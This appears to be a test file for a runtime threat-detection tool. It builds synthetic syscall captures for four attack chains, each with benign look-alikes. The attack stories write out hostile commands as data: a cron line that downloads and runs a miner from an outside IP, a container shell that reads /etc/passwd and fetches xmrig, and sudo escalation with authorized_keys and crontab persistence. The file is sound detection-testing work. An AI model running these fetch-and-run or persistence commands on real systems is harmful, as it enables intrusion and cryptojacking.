import { writeFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import type { ChainMatch } from '../../src/chains/run/chain-match.js';
import { CL, buildCapture, dockerCgroups, type CaptureBuilder } from '../support/scap-writer/capture-builder.js';
import { tempDir } from '../support/temp-case.js';
import { chainMatches, describeMatch } from './run-chains.js';

/**
 * The chain library's scheduled-job, interactive-entry, SSH-escalation and build stories, each
 * told as a capture written with the scap writer: the attack among ordinary activity (filler
 * syscalls, unrelated processes, pid reuse) and benign twins that use the same tools the way a
 * legitimate cron job, probe, operator or build does, which must not match.
 */

const tmp = tempDir('pedigree-chain-library-');
afterAll(() => tmp.cleanup());
let written = 0;

async function matchesOf(capture: Buffer): Promise<ChainMatch[]> {
  const path = tmp.path(`story-${written++}.scap`);
  writeFileSync(path, capture);
  return chainMatches([path]);
}

const of = (matches: ChainMatch[], chain: string): string[] => matches.filter((m) => m.chain === chain).map(describeMatch);
const pathOf = (m: ChainMatch | undefined, step: number): string => (m?.steps[step]?.path ?? []).map((p) => `${p.name},${p.pid}`).join(' → ');

const USERS = [
  { uid: 0, name: 'root', home: '/root', shell: '/bin/bash' },
  { uid: 33, name: 'www-data', home: '/var/www', shell: '/usr/sbin/nologin' },
  { uid: 1000, name: 'alice', home: '/home/alice', shell: '/bin/bash' },
];
const HOST_THREADS = [
  { tid: 1, pid: 1, ptid: 0, comm: 'systemd', exe: '/sbin/init', exepath: '/usr/lib/systemd/systemd' },
  { tid: 640, pid: 640, ptid: 1, comm: 'cron', exe: '/usr/sbin/cron', exepath: '/usr/sbin/cron', args: ['-f'] },
  { tid: 812, pid: 812, ptid: 1, comm: 'containerd', exe: '/usr/bin/containerd', exepath: '/usr/bin/containerd' },
  { tid: 901, pid: 901, ptid: 1, comm: 'sshd', exe: '/usr/sbin/sshd', exepath: '/usr/sbin/sshd', args: ['-D'] },
  { tid: 950, pid: 950, ptid: 1, comm: 'rsyslogd', exe: '/usr/sbin/rsyslogd', exepath: '/usr/sbin/rsyslogd', args: ['-n'] },
];

/** `parent` forks `child`, which runs `path args`; options for the fork (uid, pid namespace, …). */
function run(
  b: CaptureBuilder,
  parent: number,
  child: number,
  path: string,
  args: string[] = [],
  fork: Parameters<CaptureBuilder['fork']>[2] = {},
  cgroups?: string[],
): CaptureBuilder {
  // A child that changes user reports it on its own clone exit, written first (as after setuid).
  const sides = fork.uid !== undefined ? { sides: ['child', 'caller'] as ('child' | 'caller')[] } : {};
  return b
    .fork(parent, child, { ...sides, ...fork })
    .exec(child, { filename: path, argv0: path.slice(path.lastIndexOf('/') + 1), args, ...(cgroups ? { cgroups } : {}) });
}

/** cron's way of running a job: a cron child (exits when the job ends) whose shell runs the line. */
function cronJob(b: CaptureBuilder, cronChild: number, shell: number, line: string): CaptureBuilder {
  b.fork(640, cronChild);
  return run(b, cronChild, shell, '/bin/sh', ['-c', line]);
}

const SCHEDULED = 'Scheduled job fetches and runs a payload from a temp directory';
const INTERACTIVE = 'Interactive exec into a container, then discovery and tooling';
const SSH = 'SSH session escalates privileges and installs persistence';
const BUILD = 'Build or package install in a container, then a program runs from a temp directory';

describe(`chain: ${SCHEDULED}`, () => {
  const capture = (): Buffer =>
    buildCapture({ hostname: 'db-2', users: USERS, threads: HOST_THREADS }, (b) => {
      b.filler(950, 30);
      // benign: a health-check ping every minute (downloads nothing to disk)
      cronJob(b, 2000, 2001, 'curl -fsS -m 10 https://hc-ping.example.com/5c1e > /dev/null');
      run(b, 2001, 2002, '/usr/bin/curl', ['-fsS', '-m', '10', 'https://hc-ping.example.com/5c1e']).filler(2002, 10).exit(2002).exit(2001).exit(2000);
      // benign: a nightly job fetches a backup into /tmp and unpacks it (nothing runs from /tmp)
      b.tick(60_000_000_000n);
      cronJob(b, 2100, 2101, 'cd /tmp && wget -q https://backup.example.com/db.tgz && tar xzf db.tgz -C /srv/restore');
      run(b, 2101, 2102, '/usr/bin/wget', ['-q', 'https://backup.example.com/db.tgz'], { cwd: '/tmp' }).filler(2102, 20).exit(2102);
      run(b, 2101, 2103, '/usr/bin/tar', ['xzf', 'db.tgz', '-C', '/srv/restore'], { cwd: '/tmp' }).exit(2103).exit(2101).exit(2100);
      // benign: an updater job verifies what it downloaded before running it
      cronJob(b, 2200, 2201, 'curl -so /var/tmp/agent-update https://updates.example.com/agent && sha256sum -c /etc/agent.sum && /var/tmp/agent-update');
      run(b, 2201, 2202, '/usr/bin/curl', ['-so', '/var/tmp/agent-update', 'https://updates.example.com/agent']).exit(2202);
      run(b, 2201, 2203, '/usr/bin/sha256sum', ['-c', '/etc/agent.sum']).exit(2203);
      run(b, 2201, 2204, '/var/tmp/agent-update').filler(2204, 5).exit(2204).exit(2201).exit(2200);
      // benign: alice downloads and runs a tool herself (not a scheduled job)
      run(b, 901, 3100, '/usr/bin/bash', [], { uid: 1000, cwd: '/home/alice' });
      run(b, 3100, 3101, '/usr/bin/curl', ['-Lo', '/tmp/kubectl', 'https://dl.k8s.io/kubectl']).exit(3101);
      run(b, 3100, 3102, '/tmp/kubectl', ['version']).exit(3102);
      // an unrelated short-lived process uses pid 4005 first
      run(b, 950, 4005, '/usr/bin/logger', ['rotated']).exit(4005);
      // the attack: a planted crontab line fetches a miner into /dev/shm, daemonises it and exits
      b.tick(120_000_000_000n);
      cronJob(b, 4000, 4001, '(curl -s -o /dev/shm/.k http://203.0.113.50/k; chmod +x /dev/shm/.k; /dev/shm/.k -o pool.example.net:443 &) >/dev/null 2>&1');
      run(b, 4001, 4002, '/usr/bin/curl', ['-s', '-o', '/dev/shm/.k', 'http://203.0.113.50/k']).filler(4002, 40).exit(4002);
      run(b, 4001, 4003, '/bin/chmod', ['+x', '/dev/shm/.k']).exit(4003);
      b.fork(4001, 4004); // the subshell
      b.fork(4004, 4005); // the payload's process, reusing pid 4005
      b.exit(4004).exit(4001).exit(4000);
      b.exec(4005, { filename: '/dev/shm/.k', argv0: '/dev/shm/.k', args: ['-o', 'pool.example.net:443'], ptid: 1 }).filler(4005, 50);
      b.filler(950, 20);
    });

  it('finds the job shell → download into /dev/shm → run, across exited intermediates and pid reuse', async () => {
    const matches = await matchesOf(capture());
    expect(of(matches, SCHEDULED)).toEqual([`${SCHEDULED}: job_shell=sh,4001 fetch=curl,4002 run=.k,4005`]);
    const m = matches.find((x) => x.chain === SCHEDULED);
    expect(pathOf(m, 0)).toBe('cron,4000 → sh,4001');
    expect(pathOf(m, 2)).toBe('sh,4001 → sh,4004 → .k,4005');
    expect(m?.output).toContain('run=/dev/shm/.k');
    expect(m?.output).toContain('scheduler=cron');
  });

  it('matches none of the benign twins, and no other chain fires on the story', async () => {
    const matches = await matchesOf(capture());
    expect(matches.map(describeMatch)).toEqual([`${SCHEDULED}: job_shell=sh,4001 fetch=curl,4002 run=.k,4005`]);
  });
});

const POD = 'ab12cd34ef56'.padEnd(64, '7');
const OPS = 'cd34ef56ab12'.padEnd(64, '8');

describe(`chain: ${INTERACTIVE}`, () => {
  const capture = (): Buffer =>
    buildCapture(
      {
        hostname: 'node-5',
        users: USERS,
        threads: [
          ...HOST_THREADS,
          { tid: 2301, pid: 2301, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
          {
            tid: 2330,
            pid: 2330,
            ptid: 2301,
            vtid: 1,
            vpid: 1,
            comm: 'node',
            exe: 'node',
            exepath: '/usr/local/bin/node',
            args: ['server.js'],
            cgroups: dockerCgroups(POD),
          },
          { tid: 2401, pid: 2401, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
        ],
      },
      (b) => {
        b.container({
          id: POD,
          name: 'shop-api',
          image: 'registry.example.com/shop/api:4.2',
          labels: { 'io.kubernetes.pod.name': 'shop-api-7d9', 'io.kubernetes.pod.namespace': 'shop' },
        });
        b.container({ id: OPS, name: 'batch', image: 'docker.io/library/alpine:3.20' });
        const inPod = { flags: CL.CHILD_IN_PIDNS };
        /** An exec into the pod: the shim starts runc, whose child joins the pod and runs the shell. */
        const enter = (runc: number, shell: number, vtid: number, args: string[], id = POD): CaptureBuilder => {
          run(b, 2301, runc, '/usr/bin/runc', ['exec', '--process', '/run/exec.json', id.slice(0, 12)]);
          return run(b, runc, shell, '/bin/sh', args, { ...inPod, vtid }, dockerCgroups(id));
        };
        b.filler(2330, 40);
        // benign: the kubelet's exec probe fetches the health endpoint every 10 s
        enter(5000, 5001, 40, ['-c', 'wget -q -O- http://127.0.0.1:8080/healthz']);
        run(b, 5001, 5002, '/usr/bin/wget', ['-q', '-O-', 'http://127.0.0.1:8080/healthz'], { ...inPod, vtid: 41 })
          .exit(5002)
          .exit(5001)
          .exit(5000);
        // benign: an operator looks around and leaves
        enter(5100, 5101, 42, []);
        run(b, 5101, 5102, '/bin/ps', ['aux'], { ...inPod, vtid: 43 }).exit(5102);
        run(b, 5101, 5103, '/usr/bin/env', [], { ...inPod, vtid: 44 }).exit(5103);
        run(b, 5101, 5104, '/bin/cat', ['/etc/os-release'], { ...inPod, vtid: 45 })
          .exit(5104)
          .exit(5101)
          .exit(5100);
        // benign: a batch container's entrypoint (its init, vpid 1) checks who it is and fetches its input
        run(b, 2401, 5200, '/usr/bin/runc', ['init']);
        run(
          b,
          5200,
          5201,
          '/bin/sh',
          ['-c', 'id && wget -q -O /tmp/input.csv https://data.example.com/input.csv && exec /app/batch'],
          { flags: CL.CHILD_IN_PIDNS | CL.NEWPID, vtid: 1 },
          dockerCgroups(OPS),
        );
        run(b, 5201, 5202, '/usr/bin/id', [], { ...inPod, vtid: 2 }).exit(5202);
        run(b, 5201, 5203, '/usr/bin/wget', ['-q', '-O', '/tmp/input.csv', 'https://data.example.com/input.csv'], { ...inPod, vtid: 3 }).exit(5203);
        // the attack: an interactive shell in the pod, discovery, then a miner fetched and started
        b.tick(300_000_000_000n);
        enter(5300, 5301, 50, ['-i']);
        for (const [i, [path, args]] of (
          [
            ['/usr/bin/id', []],
            ['/usr/bin/whoami', []],
            ['/bin/uname', ['-a']],
            ['/bin/cat', ['/etc/passwd']],
            ['/usr/bin/env', []],
          ] as [string, string[]][]
        ).entries()) {
          run(b, 5301, 5310 + i, path, args, { ...inPod, vtid: 51 + i }).exit(5310 + i);
          b.tick(2_000_000_000n);
        }
        run(b, 5301, 5320, '/usr/bin/curl', ['-sLo', '/tmp/xmrig', 'http://203.0.113.77/xmrig'], { ...inPod, vtid: 60 })
          .filler(5320, 30)
          .exit(5320);
        run(b, 5301, 5321, '/tmp/xmrig', ['--donate-level', '1'], { ...inPod, vtid: 61 }).filler(5321, 30);
        b.filler(2330, 40);
      },
    );

  it('finds exec → shell → discovery → download, with the runtime as the shell’s parent', async () => {
    const matches = await matchesOf(capture());
    expect(of(matches, INTERACTIVE)).toEqual([`${INTERACTIVE}: entry=sh,5301 discovery=id,5310 tooling=curl,5320`]);
    const m = matches.find((x) => x.chain === INTERACTIVE);
    expect(m?.containerId).toBe(POD.slice(0, 12));
    expect(m?.output).toContain('entered_via=runc');
    expect(m?.output).toContain('k8s_pod=shop-api-7d9');
  });

  it('matches none of the twins: the probe, the operator who only looked, the container’s own entrypoint', async () => {
    const matches = await matchesOf(capture());
    expect(matches.filter((m) => Number(m.steps[0]?.pid) !== 5301).map((m) => `${describeMatch(m)} ${m.output}`)).toEqual([]);
  });
});

describe(`chain: ${SSH}`, () => {
  const capture = (): Buffer =>
    buildCapture({ hostname: 'bastion-1', users: USERS, threads: HOST_THREADS }, (b) => {
      b.filler(950, 20);
      // benign: alice's session: updates, restarts a service, lists root's crontab, edits her own
      run(b, 901, 3100, '/usr/bin/bash', [], { uid: 1000, cwd: '/home/alice' });
      run(b, 3100, 3101, '/usr/bin/sudo', ['apt-get', 'update']);
      run(b, 3101, 3102, '/usr/bin/apt-get', ['update'], { uid: 0 }).filler(3102, 20).exit(3102).exit(3101);
      run(b, 3100, 3103, '/usr/bin/sudo', ['systemctl', 'restart', 'nginx']);
      run(b, 3103, 3104, '/usr/bin/systemctl', ['restart', 'nginx'], { uid: 0 }).exit(3104).exit(3103);
      run(b, 3100, 3105, '/usr/bin/sudo', ['crontab', '-l']);
      run(b, 3105, 3106, '/usr/bin/crontab', ['-l'], { uid: 0 }).exit(3106).exit(3105);
      run(b, 3100, 3107, '/usr/bin/crontab', ['-e']).exit(3107).exit(3100);
      // benign: root's own cron job rewrites a unit file (no SSH session, no escalation)
      cronJob(b, 3200, 3201, 'cp /opt/agent/agent.service /etc/systemd/system/agent.service');
      run(b, 3201, 3202, '/bin/cp', ['/opt/agent/agent.service', '/etc/systemd/system/agent.service']).exit(3202).exit(3201).exit(3200);
      // the attack: a stolen key, sudo -i, a root crontab and an extra authorized key
      b.tick(600_000_000_000n);
      run(b, 901, 3300, '/usr/bin/bash', [], { uid: 1000, cwd: '/home/alice' });
      run(b, 3300, 3301, '/usr/bin/id').exit(3301);
      run(b, 3300, 3302, '/usr/bin/sudo', ['-i']);
      run(b, 3302, 3303, '/bin/bash', ['--login'], { uid: 0, cwd: '/root' });
      run(b, 3303, 3304, '/usr/bin/tee', ['-a', '/root/.ssh/authorized_keys'], { uid: 0 }).exit(3304);
      run(b, 3303, 3305, '/usr/bin/crontab', ['/tmp/.c'], { uid: 0 }).exit(3305);
      b.filler(950, 20);
    });

  it('finds session → sudo → persistence as root', async () => {
    const matches = await matchesOf(capture());
    expect(of(matches, SSH)).toEqual([`${SSH}: session=bash,3300 escalate=sudo,3302 persist=tee,3304`]);
    const m = matches.find((x) => x.chain === SSH);
    expect(pathOf(m, 2)).toBe('sudo,3302 → bash,3303 → tee,3304');
    expect(m?.output).toContain('session_user=alice');
  });

  it('matches none of the twins: updates, restarts, crontab -l, one’s own crontab, a cron job', async () => {
    const matches = await matchesOf(capture());
    expect(matches.filter((m) => Number(m.steps[0]?.pid) !== 3300).map((m) => `${describeMatch(m)} ${m.output}`)).toEqual([]);
  });
});

const DEV = 'ef56ab12cd34'.padEnd(64, '9');
const CI = '12cd34ef56ab'.padEnd(64, '6');

describe(`chain: ${BUILD}`, () => {
  const capture = (): Buffer =>
    buildCapture(
      {
        hostname: 'node-9',
        users: USERS,
        threads: [
          ...HOST_THREADS,
          { tid: 2501, pid: 2501, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
          {
            tid: 2530,
            pid: 2530,
            ptid: 2501,
            vtid: 1,
            vpid: 1,
            comm: 'python3',
            exe: 'python3',
            exepath: '/usr/bin/python3',
            args: ['app.py'],
            cgroups: dockerCgroups(DEV),
          },
          { tid: 2601, pid: 2601, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', exepath: '/usr/bin/containerd-shim-runc-v2' },
          { tid: 2630, pid: 2630, ptid: 2601, vtid: 1, vpid: 1, comm: 'bash', exe: 'bash', exepath: '/bin/bash', args: ['ci.sh'], cgroups: dockerCgroups(CI) },
        ],
      },
      (b) => {
        b.container({ id: DEV, name: 'app', image: 'docker.io/library/python:3.12' });
        b.container({ id: CI, name: 'ci', image: 'docker.io/library/golang:1.23' });
        const inNs = (vtid: number) => ({ flags: CL.CHILD_IN_PIDNS, vtid });
        // benign: the CI container builds and `go run`s its tests (from /tmp/go-build…), then pip installs
        run(b, 2630, 6001, '/usr/local/go/bin/go', ['run', './cmd/migrate'], inNs(20));
        run(b, 6001, 6002, '/usr/local/go/pkg/tool/linux_amd64/compile', ['-o', '/tmp/go-build3012/b001/_pkg_.a'], inNs(21)).exit(6002);
        run(b, 6001, 6003, '/tmp/go-build3012/b001/exe/migrate', [], inNs(22)).filler(6003, 10).exit(6003).exit(6001);
        run(b, 2630, 6004, '/usr/local/bin/pip', ['install', '-r', 'requirements.txt'], inNs(23)).filler(6004, 20).exit(6004);
        // benign: on the host, an admin installs a package and runs an installer from /tmp
        run(b, 901, 3100, '/usr/bin/bash', [], { uid: 0 });
        run(b, 3100, 3101, '/usr/bin/apt-get', ['install', '-y', 'jq']).exit(3101);
        run(b, 3100, 3102, '/tmp/install-agent.sh', []).exit(3102);
        // the attack: in the app container, a shell installs gcc, builds a tool in /tmp and runs it
        b.tick(200_000_000_000n);
        run(b, 2530, 6100, '/bin/sh', ['-c', 'apt-get install -y gcc && gcc -o /tmp/.p /tmp/p.c && /tmp/.p'], inNs(30));
        run(b, 6100, 6101, '/usr/bin/apt-get', ['install', '-y', 'gcc'], inNs(31));
        run(b, 6101, 6102, '/usr/bin/dpkg', ['--unpack', '/var/cache/apt/archives/gcc-12_12.2.0_amd64.deb'], inNs(32)).exit(6102).exit(6101);
        run(b, 6100, 6103, '/usr/bin/gcc', ['-o', '/tmp/.p', '/tmp/p.c'], inNs(33)).exit(6103);
        run(b, 6100, 6104, '/tmp/.p', [], inNs(34)).filler(6104, 30);
      },
    );

  it('finds the install and the build, each followed by the program run from /tmp in the same container', async () => {
    const matches = await matchesOf(capture());
    expect(of(matches, BUILD)).toEqual([
      `${BUILD}: build=apt-get,6101 run=.p,6104`,
      `${BUILD}: build=dpkg,6102 run=.p,6104`,
      `${BUILD}: build=gcc,6103 run=.p,6104`,
    ]);
    expect(matches.find((x) => x.chain === BUILD)?.containerId).toBe(DEV.slice(0, 12));
  });

  it('matches none of the twins: go run’s build directory, pip, a host install', async () => {
    const matches = await matchesOf(capture());
    expect(matches.filter((m) => m.containerId !== DEV.slice(0, 12)).map(describeMatch)).toEqual([]);
  });
});
